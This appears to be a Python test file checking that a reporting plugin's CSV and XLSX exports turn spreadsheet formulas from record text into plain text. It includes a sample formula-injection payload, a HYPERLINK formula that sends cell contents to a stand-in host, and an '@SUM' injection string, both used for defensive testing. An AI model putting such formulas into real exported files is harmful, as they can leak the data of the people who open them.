"""The report's tables (CSV and XLSX) never hand a spreadsheet a formula from record text."""

from __future__ import annotations

import io
from types import SimpleNamespace

from evidencekit.plugins.reporters.report import _workbook

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Click for full text")'


def _table():
    return SimpleNamespace(
        name="records-by-source",
        title="Records per source",
        columns=["Source", "Records"],
        rows=[[HOSTILE, "6"], ["@SUM(1+1)", "-3"], ["MEDLINE", "2.50"]],
        note="",
    )


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(_workbook([_table()])))
    sheet = book["records-by-source"]
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows[0] == ("'" + HOSTILE, 6)
    assert rows[1] == ("'@SUM(1+1)", -3)
    assert rows[2] == ("MEDLINE", 2.5)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_tables_are_neutralised(tmp_path, monkeypatch):
    import evidencekit.plugins.reporters._report_content as content
    from evidencekit.plugins.reporters.report import TablesReport

    monkeypatch.setattr(content, "build", lambda bundle: [SimpleNamespace(tables=[_table()])])
    paths = TablesReport().render({}, tmp_path, {"formats": ["csv"]})
    assert [p.name for p in paths] == ["table-records-by-source.csv"]
    text = paths[0].read_text("utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text and ",-3" in text
